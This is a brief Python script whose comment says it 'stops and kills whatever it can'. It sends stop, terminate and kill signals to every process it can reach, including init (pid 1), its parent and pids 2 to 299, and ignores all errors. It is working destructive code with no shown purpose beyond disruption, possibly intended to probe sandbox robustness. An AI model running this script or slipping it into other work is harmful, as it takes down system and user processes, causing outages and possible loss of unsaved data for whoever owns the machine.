# Stops and kills whatever it can.
import os
import signal

for sig in [signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL, signal.SIGCONT]:
    for pid in [-1, 1, os.getppid(), *range(2, 300)]:
        if pid != os.getpid():
            try:
                os.kill(pid, sig)
            except OSError:
                pass
